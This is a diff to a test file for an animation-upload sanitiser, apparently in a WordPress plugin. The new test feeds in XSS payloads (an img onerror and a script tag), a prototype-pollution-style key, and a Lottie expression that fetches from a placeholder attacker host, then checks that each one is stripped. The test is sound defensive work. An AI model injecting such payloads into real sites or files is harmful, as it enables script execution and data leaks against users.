@@ -53,6 +53,55 @@ describe( 'an animation is uploaded', () => {
 	} );
 } );
 
+describe( 'an animation keeps what a player needs', () => {
+	const fileOf = ( id: number | undefined ) =>
+		php< string >( `return (string) file_get_contents( get_attached_file( ${ id } ) );` );
+
+	it( 'and nothing that another reader could take for its own', async () => {
+		const { id, status } = await upload(
+			'answer.json',
+			JSON.stringify( {
+				widget: '<img src=x onerror=alert(1)>',
+				html: '<script>alert(1)</script>',
+				code: 'rest_forbidden',
+				...SPINNER,
+				__proto__x: { widget: 1 },
+				layers: [
+					{
+						...SPINNER.layers[ 0 ],
+						// An expression is a program. A position of its own is an object, and stays.
+						ks: {
+							o: { a: 0, k: 100, x: 'var $bm_rt = fetch( "//evil.example" );' },
+							p: { s: true, x: { a: 0, k: 60 }, y: { a: 0, k: 40 } },
+						},
+					},
+				],
+				markers: [],
+				meta: { g: 'a tool' },
+				fonts: {},
+			} ),
+			'author'
+		);
+		expect( status ).toBe( 201 );
+		const kept = JSON.parse( await fileOf( id ) );
+		expect( Object.keys( kept ).sort() ).toEqual(
+			[ ...Object.keys( SPINNER ), 'fonts', 'markers', 'meta' ].sort()
+		);
+		expect( kept.layers[ 0 ].ks ).toEqual( {
+			o: { a: 0, k: 100 },
+			p: { s: true, x: { a: 0, k: 60 }, y: { a: 0, k: 40 } },
+		} );
+		// Objects without anything stay objects.
+		expect( kept.fonts ).toEqual( {} );
+		expect( JSON.stringify( kept ) ).not.toMatch( /widget|html|rest_forbidden/ );
+	} );
+
+	it( 'as it was where there is nothing else', async () => {
+		const { id } = await upload( 'same.json', JSON_TEXT );
+		expect( JSON.parse( await fileOf( id ) ) ).toEqual( SPINNER );
+	} );
+} );
+
 describe( 'another file is refused', () => {
 	it.each( [
 		[ 'JSON of something else', 'data.json', '{"name":"acme","layers":[]}' ],
@@ -131,7 +180,7 @@ describe( 'another file is refused', () => {
 			$path = tempnam( sys_get_temp_dir(), 'x' );
 			file_put_contents( $path, '{}' );
 			$said = array( 'name' => 'x.json', 'tmp_name' => $path, 'error' => 0 );
-			$said = $uploads->refuse( $said );
+			$said = $uploads->check( $said );
 			unlink( $path );
 			return array( 'error' => $said['error'] );
 		` );
